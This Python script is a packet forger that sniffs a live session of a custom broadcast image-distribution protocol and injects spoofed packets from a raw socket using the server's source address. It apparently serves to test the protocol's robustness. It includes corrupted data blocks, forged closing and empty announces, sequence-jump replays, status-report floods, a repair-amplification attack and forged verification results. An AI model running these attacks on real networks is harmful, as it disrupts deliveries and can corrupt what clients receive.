#!/usr/bin/env python3
"""Forge protocol-valid broadband packets against a live session (a LAN attacker, no key).

  forger.py --server IP --data ADDR:PORT --control ADDR:PORT --sniff PORT
            [--attacks LIST] [--duration S] [--pps N] [--key-file FILE]

Sniffs the session by binding the data port (--sniff) in its namespace, like any machine
on the LAN: the session id, the geometry and the digest from announces, the data sequence
numbers and the block the forward pass is at. Then sends, with a valid CRC, what each
attack in --attacks (comma separated; default: every one that needs no key) describes:

  check     data packets for the next blocks (ahead of the forward pass) with a wrong block
            check and garbage payload, so they reach the clients before the real ones
  closing   a copy of the latest announce with the "closing" flag set
  interval  a copy of the latest announce asking for a 60 s report interval
  seqjump   a real data packet replayed with its sequence number advanced by ~10^6
  empty     before any session is heard: an announce of an empty image (size 0), and one of
            a geometry no client can hold (2^50 bytes)
  clients   status reports with random client ids from one address, 100% loss
  ranges    status reports with the most deficit ranges a packet holds (the server's work
            per report), naming blocks the forward pass has not reached
Not in the default set (an amplification not stopped without a key, see the report):
  repairs   a made-up lossy client: one symbol lacking in every block sent, reported as
            often as the server applies it (each repair symbol costs the server a block)
Needing a key to stop (listed, sent only when named): digest (an announce with another
digest), result (a "verified" result for a made-up client after one status), session (an
announce of another session id before the real server starts).

Packets toward clients carry the server's address as source (raw socket, root): clients
accept data only from the server's IP. Status reports go to --control from this node's own
address and port (one address). Prints counts per attack on exit (SIGTERM/SIGINT or
--duration).

Against a keyed session (docs/PROTOCOL.md section 9) the forger has no key: --tag garbage
marks every forged packet tagged (header flag bit 0) and appends 24 random bytes where the
counter and tag go; --tag mixed alternates that with untagged packets; --tag none (default)
sends them untagged. The attack "tamper" (keyed) resends the latest real, tagged data packet
with one payload byte changed and its real tag kept. The forger learns a keyed session from
its tagged packets as from plain ones (the trailer is set aside).
"""
import argparse
import os
import random
import signal
import socket
import struct
import sys
import time
import zlib

MAGIC = b"BBND"
VERSION = 5  # the wire version this forger speaks (docs/PROTOCOL.md)
FLAG_TAGGED = 1  # header flags bit 0: a counter and tag follow the CRC
TRAILER = 24
DATA, ANNOUNCE, STATUS, RESULT = 1, 2, 3, 4
FLAG_DIGEST_KNOWN, FLAG_STARTED, FLAG_CLOSING = 1, 2, 4
NO_KEY = ["check", "closing", "interval", "seqjump", "empty", "clients", "ranges"]
EXTRA = ["repairs"]
KEYED = ["digest", "result", "session", "tamper"]
STANDARD_DATAGRAM = 1472 - TRAILER  # a status report's room in a 1500-byte MTU, untagged
STATUS_FIXED = 52
RANGE_LEN = 8
MAX_RANGES = (STANDARD_DATAGRAM - STATUS_FIXED - 4) // RANGE_LEN


def addr(s):
    h, p = s.rsplit(":", 1)
    return (h, int(p))


def seal(body):
    """Appends the CRC32 (IEEE, little-endian) of everything before it."""
    return body + struct.pack("<I", zlib.crc32(body) & 0xFFFFFFFF)


def header(magic, version, ty, session):
    return magic + struct.pack("<BBHQ", version, ty, 0, session)


class Session:
    def __init__(self):
        self.magic = MAGIC
        self.version = VERSION
        self.id = None
        self.announce = None  # latest real announce (bytes)
        self.image_size = self.symbol = self.k = None
        self.digest = None
        self.seq = 0
        self.front = -1  # highest block seen in data
        self.data = None  # a recent real data packet (without its trailer)
        self.tagged_data = None  # the same as sent, with its counter and tag

    def block_count(self):
        bb = self.symbol * self.k
        return (self.image_size + bb - 1) // bb

    def block_len(self, b):
        bb = self.symbol * self.k
        return min(bb, self.image_size - b * bb)

    def learn(self, pkt):
        if len(pkt) < 20:
            return
        tagged = None
        if struct.unpack("<H", pkt[6:8])[0] & FLAG_TAGGED:
            if len(pkt) < 20 + TRAILER:
                return
            tagged, pkt = pkt, pkt[:-TRAILER]
        ty = pkt[5]
        if ty not in (DATA, ANNOUNCE):
            return
        if zlib.crc32(pkt[:-4]) & 0xFFFFFFFF != struct.unpack("<I", pkt[-4:])[0]:
            return
        if pkt[:4] != MAGIC:
            return
        self.version = pkt[4]
        sid = struct.unpack("<Q", pkt[8:16])[0]
        if self.id is None or (ty == ANNOUNCE and sid != self.id):
            self.id = sid
        if sid != self.id:
            return
        if ty == ANNOUNCE and len(pkt) == 88:
            self.announce = pkt
            self.image_size, self.symbol, self.k = struct.unpack("<QII", pkt[16:32])
            flags = struct.unpack("<I", pkt[36:40])[0]
            if flags & FLAG_DIGEST_KNOWN:
                self.digest = pkt[48:80]
        elif ty == DATA and len(pkt) >= 40:
            block, _esi, _enc, _res, seq = struct.unpack("<IHBBI", pkt[16:28])
            if ((seq - self.seq) & 0xFFFFFFFF) < (1 << 31):
                self.seq = seq
            self.front = max(self.front, block)
            self.data = pkt
            self.tagged_data = tagged


def announce_variant(a, flags_or=0, interval_ms=None, digest=None, session=None,
                     image_size=None):
    b = bytearray(a[:-4])
    if session is not None:
        b[8:16] = struct.pack("<Q", session)
    if image_size is not None:
        sym, k = struct.unpack("<II", b[24:32])
        bb = sym * k
        b[16:24] = struct.pack("<Q", image_size)
        b[32:36] = struct.pack("<I", (image_size + bb - 1) // bb)
    flags = struct.unpack("<I", b[36:40])[0] | flags_or
    if digest is not None:
        flags |= FLAG_DIGEST_KNOWN
        b[48:80] = digest
    b[36:40] = struct.pack("<I", flags)
    if interval_ms is not None:
        b[44:48] = struct.pack("<I", interval_ms)
    return seal(bytes(b))


def fresh_announce(magic, version, session, image_size, symbol, k):
    bb = symbol * k
    body = header(magic, version, ANNOUNCE, session)
    body += struct.pack("<QIII", image_size, symbol, k, (image_size + bb - 1) // bb)
    body += struct.pack("<III", FLAG_STARTED, 0, 200) + bytes(32) + struct.pack("<I", 0)
    return seal(body)


def data_packet(s, block, esi, seq, check, payload):
    body = header(s.magic, s.version, DATA, s.id)
    body += struct.pack("<IHBBIII", block, esi, 0, 0, seq, check, s.block_len(block))
    return seal(body + payload)


def status_packet(s, client_id, last_seq, loss_ppm, ranges):
    body = header(s.magic, s.version, STATUS, s.id)
    body += struct.pack("<QIIIIHB9x", client_id, 0, last_seq, 0, loss_ppm, len(ranges), 0)
    for first, n, d in ranges:
        body += struct.pack("<IHH", first, n, d)
    return seal(body)


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--server", required=True, help="the real server's IP (forged source)")
    ap.add_argument("--data", type=addr, required=True, help="where clients listen")
    ap.add_argument("--control", type=addr, required=True, help="the server's control port")
    ap.add_argument("--sniff", type=int, required=True, help="data port to sniff on")
    ap.add_argument("--group")
    ap.add_argument("--attacks", default=",".join(NO_KEY))
    ap.add_argument("--pps", type=float, default=1000, help="status reports per second")
    ap.add_argument("--duration", type=float, default=120)
    ap.add_argument("--seed", type=int, default=None)
    ap.add_argument("--tag", choices=["none", "garbage", "mixed"], default="none",
                    help="what forged packets carry where a keyed session's tag goes")
    a = ap.parse_args()
    attacks = [x for x in a.attacks.split(",") if x]
    unknown = [x for x in attacks if x not in NO_KEY + EXTRA + KEYED]
    if unknown:
        print(f"forger: unknown attack(s) {unknown}: choose from {NO_KEY + EXTRA + KEYED}",
              file=sys.stderr)
        return 2
    rng = random.Random(a.seed)
    flip = [False]

    def dress(pkt):
        """A forged packet as --tag says: untagged, or flagged tagged with a random trailer."""
        flip[0] = not flip[0]
        if a.tag == "none" or (a.tag == "mixed" and flip[0]):
            return pkt
        b = bytearray(pkt[:-4])
        b[6:8] = struct.pack("<H", struct.unpack("<H", b[6:8])[0] | FLAG_TAGGED)
        return seal(bytes(b)) + rng.randbytes(TRAILER)

    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    ctl = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    ctl.bind(("", 0))
    ctl.setblocking(False)
    sniff = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sniff.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sniff.bind(("", a.sniff))
    if a.group:
        mreq = struct.pack("4s4s", socket.inet_aton(a.group), socket.inet_aton("0.0.0.0"))
        sniff.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, mreq)
    sniff.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 22)
    sniff.setblocking(False)

    # CRCs of what this forger sent: it hears its own broadcasts (with the server's address
    # as source) and must not learn from them.
    sent_crcs = set()

    def to_clients(payload, dressed=False):
        if not dressed:
            payload = dress(payload)
        if len(sent_crcs) > 65536:
            sent_crcs.clear()
        sent_crcs.add(payload[-4:])
        src, dst = (a.server, 7854), a.data
        ulen = 8 + len(payload)
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + ulen, rng.randrange(1, 65536), 0, 64,
                         17, 0, socket.inet_aton(src[0]), socket.inet_aton(dst[0]))
        udp = struct.pack("!HHHH", src[1], dst[1], ulen, 0)
        raw.sendto(ip + udp + payload, (dst[0], 0))

    counts = {x: 0 for x in attacks}
    stop = [False]

    def on_sig(*_):
        stop[0] = True

    signal.signal(signal.SIGTERM, on_sig)
    signal.signal(signal.SIGINT, on_sig)

    s = Session()
    sniffed = 0
    forged_upto = -1
    next_at = {x: 0.0 for x in attacks}
    status_credit = 0.0
    last_t = time.monotonic()
    t0 = last_t
    ids = 0
    while not stop[0] and time.monotonic() - t0 < a.duration:
        # Drain what was heard (the newest packets say where the session is now).
        got = 0
        while got < 4096:
            try:
                pkt, src = sniff.recvfrom(65536)
            except (BlockingIOError, InterruptedError):
                break
            got += 1
            if src[0] == a.server and pkt[-4:] not in sent_crcs:
                sniffed += 1
                s.learn(pkt)
        if got == 0:
            time.sleep(0.001)
        now = time.monotonic()
        status_credit = min(status_credit + (now - last_t) * a.pps, 64)
        last_t = now

        def due(x, every):
            if x in next_at and now >= next_at[x]:
                next_at[x] = now + every
                return True
            return False

        try:
            if s.announce is None:
                # Before the server is heard: unusable sessions to bind to.
                if due("empty", 0.05):
                    sid = rng.getrandbits(64)
                    to_clients(fresh_announce(s.magic, s.version, sid, 0, 1408, 512))
                    to_clients(fresh_announce(s.magic, s.version, sid ^ 1, 1 << 50, 1408, 512))
                    counts["empty"] += 2
                if due("session", 0.05):
                    to_clients(fresh_announce(s.magic, s.version, rng.getrandbits(64), 1 << 20,
                                              1408, 64))
                    counts["session"] += 1
                continue
            if "empty" in counts and due("empty", 0.5):
                to_clients(announce_variant(s.announce, image_size=0))
                counts["empty"] += 1
            if "check" in counts and s.front >= 0:
                # Claim the next blocks of the forward pass before their real symbols come.
                want = min(s.front + 8, s.block_count() - 1)
                while forged_upto < want:
                    forged_upto = max(forged_upto + 1, s.front + 1)
                    if forged_upto > want:
                        break
                    payload = rng.randbytes(s.symbol)
                    to_clients(data_packet(s, forged_upto, 0, s.seq + 1, rng.getrandbits(32),
                                           payload))
                    counts["check"] += 1
            if due("closing", 0.3):
                to_clients(announce_variant(s.announce, flags_or=FLAG_CLOSING))
                counts["closing"] += 1
            if due("interval", 0.3):
                to_clients(announce_variant(s.announce, interval_ms=60_000))
                counts["interval"] += 1
            if due("digest", 0.3):
                to_clients(announce_variant(s.announce, digest=rng.randbytes(32)))
                counts["digest"] += 1
            if s.data is not None and due("seqjump", 0.2):
                b = bytearray(s.data[:-4])
                seq = (s.seq + 1_000_000 + rng.randrange(1000)) & 0xFFFFFFFF
                b[24:28] = struct.pack("<I", seq)
                to_clients(seal(bytes(b)))
                counts["seqjump"] += 1
            if s.tagged_data is not None and due("tamper", 0.05):
                b = bytearray(s.tagged_data)
                b[40 + rng.randrange(max(1, len(b) - 40 - 4 - TRAILER))] ^= 0xFF
                to_clients(bytes(b), dressed=True)
                counts["tamper"] += 1
            while status_credit >= 1:
                status_credit -= 1
                if "clients" in counts:
                    ctl.sendto(dress(status_packet(s, rng.getrandbits(64), s.seq, 1_000_000, [])),
                               a.control)
                    counts["clients"] += 1
                if "ranges" in counts:
                    # Ahead of the forward pass: parsed, checked and clipped by the server.
                    n = s.block_count()
                    first = min(s.front + 2, n - 1)
                    rs = [(b, 1, 1) for b in range(first, n)][:MAX_RANGES]
                    if rs:
                        ctl.sendto(dress(status_packet(s, rng.getrandbits(64), 0, 0, rs)), a.control)
                        counts["ranges"] += 1
                if "repairs" in counts:
                    n = min(s.front, s.block_count())
                    step = max(1, n // MAX_RANGES)
                    rs = [(i * step, 1, 1) for i in range(min(MAX_RANGES, n))]
                    if rs:
                        ctl.sendto(dress(status_packet(s, 0xF0F0, s.seq, 0, rs)), a.control)
                        counts["repairs"] += 1
                if "result" in counts:
                    ids += 1
                    cid = 0xBAD0000 + ids
                    ctl.sendto(dress(status_packet(s, cid, s.seq, 0, [])), a.control)
                    body = header(s.magic, s.version, RESULT, s.id)
                    body += struct.pack("<QBBHQ", cid, 1, 0, 0, s.image_size)
                    body += s.digest or bytes(32)
                    ctl.sendto(dress(seal(body)), a.control)
                    counts["result"] += 1
        except (BlockingIOError, InterruptedError):
            pass
        except OSError as e:
            counts["errors"] = counts.get("errors", 0) + 1
            if counts["errors"] == 1:
                print(f"forger: send failed: {e}", file=sys.stderr)
    detail = " ".join(f"{k}={v}" for k, v in sorted(counts.items()))
    sid = f"{s.id:016x}" if s.id is not None else "none"
    print(f"forger: session={sid} sniffed={sniffed} last_seq={s.seq} {detail}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
